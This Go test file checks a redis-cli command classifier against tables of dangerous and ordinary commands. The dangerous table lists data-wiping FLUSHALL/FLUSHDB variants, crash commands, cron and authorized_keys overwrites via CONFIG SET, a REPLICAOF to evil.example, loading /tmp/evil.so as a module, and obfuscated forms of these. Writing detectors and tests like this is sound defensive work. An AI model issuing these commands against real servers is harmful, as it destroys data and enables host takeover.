package inline

import (
	"strings"
	"testing"
)

// redisCase is a redis-cli argument list (args, split on spaces) and its
// standard input (script), and the statements they must give.
type redisCase struct{ args, script, want string }

var redisDangerous = []redisCase{
	{args: "FLUSHALL", want: "FLUSHALL()!"},
	{args: "flushall", want: "FLUSHALL()!"},
	{args: "FlushAll ASYNC", want: "FLUSHALL()!"},
	{args: "-n 2 flushdb", want: "FLUSHDB(2)!"},
	{args: "-h db1 -p 6380 -a secret FLUSHDB", want: "FLUSHDB(0)!"},
	{args: "-u redis://:pw@db1:6379/3 flushdb", want: "FLUSHDB(3)!"},
	{args: "--tls --cacert ca.pem -h h flushall", want: "FLUSHALL()!"},
	{args: "-r 3 -i 1 flushall", want: "FLUSHALL()!"},
	{args: "--cluster call 10.0.0.1:7000 FLUSHALL", want: "FLUSHALL()!"},
	{args: "DEBUG SEGFAULT", want: "DEBUG SEGFAULT()"},
	{args: "debug crash-and-recover", want: "DEBUG CRASH-AND-RECOVER()"},
	{args: "SHUTDOWN", want: "SHUTDOWN()"},
	{args: "shutdown nosave", want: "SHUTDOWN()[NOSAVE]"},
	{args: "CONFIG SET dir /etc/cron.d", want: "CONFIG SET dir(/etc/cron.d)[dir]"},
	{args: "config set dbfilename authorized_keys", want: "CONFIG SET dbfilename(authorized_keys)[dbfilename]"},
	{args: "KEYS *", want: "KEYS(*)!"},
	{args: "REPLICAOF 10.0.0.9 6379", want: "REPLICAOF(10.0.0.9:6379)"},
	{args: "slaveof evil.example 6379", want: "REPLICAOF(evil.example:6379)"},
	{args: "CLUSTER RESET HARD", want: "CLUSTER RESET()[HARD]"},
	{args: "cluster flushslots", want: "CLUSTER FLUSHSLOTS()"},
	{args: "SCRIPT FLUSH", want: "SCRIPT FLUSH()"},
	{args: "FUNCTION FLUSH", want: "FUNCTION FLUSH()"},
	{args: "MODULE LOAD /tmp/evil.so", want: "MODULE LOAD(/tmp/evil.so)"},
	{script: "FLUSHALL\n", want: "FLUSHALL()!"},
	{script: "select 2\nflushdb\n", want: "FLUSHDB(2)!"},
	{script: "set a 1\r\nflushall\r\n", want: "FLUSHALL()!"},
	{script: "*1\r\n$8\r\nFLUSHALL\r\n", want: "FLUSHALL()!"},
	{script: "*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n*1\r\n$7\r\nFLUSHDB\r\n", want: "FLUSHDB(0)!"},
	{script: "EVAL \"return redis.call('flushall')\" 0\n", want: "FLUSHALL()!"},
	{script: "eval \"redis.call(ARGV[1])\" 0 flushall\n", want: "EVAL()[a command computed in the script]"},
	{script: "\"config\" 'set' \"dir\" \"/var/spool/cron\"\n", want: "CONFIG SET dir(/var/spool/cron)[dir]"},
	{script: "\"\\x46LUSHALL\"\n", want: "FLUSHALL()!"},
	{script: "  debug   segfault  \n", want: "DEBUG SEGFAULT()"},
	{args: "-n 3", script: "FLUSHDB\n", want: "FLUSHDB(3)!"},
	{args: "-h cache1 --pipe", script: "*1\r\n$7\r\nFLUSHDB\r\n", want: "FLUSHDB(0)!"},
}

var redisOrdinary = []redisCase{
	{args: "PING"},
	{args: "get key"},
	{args: "-h db1 info"},
	{args: "-n 2 dbsize"},
	{args: "--scan --pattern 'user:*'"},
	{args: "--bigkeys"},
	{args: "--stat"},
	{args: "--latency"},
	{args: "-h h -p 6379 --rdb /tmp/dump.rdb"},
	{args: "--pipe"},
	{args: "--eval flush.lua"},
	{args: "get key", script: "flushall\n"},
	{args: "set flushall 1"},
	{args: "get FLUSHALL"},
	{args: "del session:1"},
	{args: "config get dir"},
	{args: "CONFIG SET maxmemory 2gb", want: "CONFIG SET(2gb)[maxmemory]"},
	{args: "KEYS user:*", want: "KEYS(user:*)"},
	{args: "replicaof no one"},
	{args: "slaveof NO ONE"},
	{args: "shutdown abort"},
	{args: "script load \"return 1\""},
	{args: "client list"},
	{args: "memory usage key"},
	{args: "--cluster check 10.0.0.1:7000"},
	{args: "-x set key"},
	{args: "DEBUG OBJECT key"},
	{args: "lpush queue job"},
	{args: "-a secret --no-auth-warning ping"},
	{args: ""},
	{script: "set a 1\nget a\n"},
	{script: "\"set\" \"key\" \"flushall\"\n"},
	{script: "EVAL \"return redis.call('get', KEYS[1])\" 1 k\n"},
	{script: "eval \"redis.call('del', KEYS[1])\" 1 x\n"},
	{script: "*2\r\n$3\r\nGET\r\n$1\r\na\r\n"},
	{script: ""},
	{script: "\n\n"},
	{script: "info\nclient list\n"},
}

func TestRedis(t *testing.T) {
	if len(redisDangerous) < 30 || len(redisOrdinary) < 30 {
		t.Errorf("%d dangerous and %d ordinary cases, want at least 30 each", len(redisDangerous), len(redisOrdinary))
	}
	for _, tab := range [][]redisCase{redisDangerous, redisOrdinary} {
		for _, c := range tab {
			got := Redis(strings.Fields(c.args), c.script)
			if s := stmtSummary(got); s != c.want {
				t.Errorf("%q %q:\n got %s\nwant %s", c.args, c.script, s, c.want)
			}
		}
	}
	// the position is the command's index, or its line's offset
	if s := Redis([]string{"-n", "2", "flushdb"}, "flushall"); len(s) != 1 || s[0].Pos != 2 {
		t.Errorf("Redis: %+v, want one statement at 2, standard input not read", s)
	}
	if s := Redis(nil, "get a\nflushall\n"); len(s) != 1 || s[0].Pos != 6 {
		t.Errorf("Redis: %+v, want one statement at 6", s)
	}
}
